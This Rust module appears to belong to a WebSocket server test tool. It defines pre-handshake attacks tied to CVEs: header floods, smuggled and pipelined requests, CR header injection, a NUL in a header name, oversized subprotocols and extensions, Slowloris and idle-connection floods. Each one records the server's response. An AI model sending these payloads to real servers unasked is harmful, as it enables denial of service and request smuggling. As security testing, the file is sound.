//! Attacks before the connection is open.

use std::thread;
use std::time::{Duration, Instant};

use super::Attack;
use super::link::Target;

const fn attack(name: &'static str, known_by: &'static str, run: fn(&Target) -> String) -> Attack {
    Attack { name, known_by, slow: false, run }
}

pub(crate) const ATTACKS: &[Attack] = &[
    attack(
        "endless-header",
        "CVE-2023-43669: a header in small pieces, parsed again for each",
        endless_header,
    ),
    attack("many-headers", "CVE-2024-37890: 2000 headers", many_headers),
    attack("body", "CVE-2026-69243: a request with a body that is another request", |target| {
        let behind = target.request("\r\n");
        request(target, &format!("Content-Length: {}\r\n", behind.len()), &behind)
    }),
    attack("signed-length", "CVE-2021-32715: a length of +0", |target| {
        request(target, "Content-Length: +0\r\n", "")
    }),
    attack("nul-in-name", "CVE-2024-52530: a header name that ends with NUL", |target| {
        request(target, "Transfer-Encoding\0: chunked\r\n", "")
    }),
    attack("line-break", "CVE-2026-1527: CR in values that may come back in the answer", |target| {
        request(target, "Sec-WebSocket-Protocol: a\rEvil: 1\r\nOrigin: http://a\rEvil: 1\r\n", "")
    }),
    attack("pipelined", "CVE-2026-2833: another request behind the request", |target| {
        request(target, "", &target.request("\r\n"))
    }),
    attack("extension-grammar", "CVE-2020-7662: a string of escapes that does not end", |target| {
        request(target, &format!("Sec-WebSocket-Extensions: a; b=\"{}\r\n", "\\c".repeat(3500)), "")
    }),
    attack("subprotocol-spaces", "CVE-2021-32640: thousands of spaces inside a subprotocol", |target| {
        request(target, &format!("Sec-WebSocket-Protocol: b{}x\r\n", " ".repeat(7000)), "")
    }),
    attack("subprotocol-bytes", "a panic of Granian: bytes beyond ASCII in a subprotocol", |target| {
        request(target, "Sec-WebSocket-Protocol: \u{e9}\u{10FFFF}\r\n", "")
    }),
    attack("window-bits", "CVE-2026-2229: window bits outside 8 to 15", |target| {
        let offer = "Sec-WebSocket-Extensions: permessage-deflate; server_max_window_bits=7, \
            permessage-deflate; server_max_window_bits=99999999999\r\n";
        request(target, offer, "")
    }),
    Attack {
        slow: true,
        ..attack("slow-handshake", "Slowloris: a byte of the request a second", slow_handshake)
    },
    Attack {
        slow: true,
        ..attack("silent", "connections that say nothing at all, 100 of them", |target| {
            let links: Vec<_> = (0..100).filter_map(|_| target.connect().ok()).collect();
            let Some(last) = links.into_iter().last() else { return "not connected".into() };
            last.outcome(target.most)
        })
    },
];

/// A request with these lines and bytes behind it.
fn request(target: &Target, lines: &str, behind: &str) -> String {
    let Ok(mut link) = target.connect() else { return "not connected".into() };
    link.send(format!("{}\r\n{behind}", target.request(lines)).as_bytes());
    link.outcome(Duration::from_millis(700))
}

fn endless_header(target: &Target) -> String {
    let Ok(mut link) = target.connect() else { return "not connected".into() };
    link.send(target.request("X: ").as_bytes());
    while link.sent < 4 << 20 && link.send(&[b'x'; 16]) && !link.heard().over {}
    link.outcome(Duration::from_secs(1))
}

fn many_headers(target: &Target) -> String {
    let lines: String = (0..2000).map(|count| format!("h{count}: x\r\n")).collect();
    request(target, &lines, "")
}

fn slow_handshake(target: &Target) -> String {
    let Ok(mut link) = target.connect() else { return "not connected".into() };
    let began = Instant::now();
    for byte in target.request("\r\n").bytes() {
        if !link.send(&[byte]) || link.wait_for(Duration::from_secs(1), |heard| heard.over) {
            break;
        }
        if began.elapsed() > target.most {
            break;
        }
        thread::yield_now();
    }
    link.outcome(Duration::from_millis(200))
}
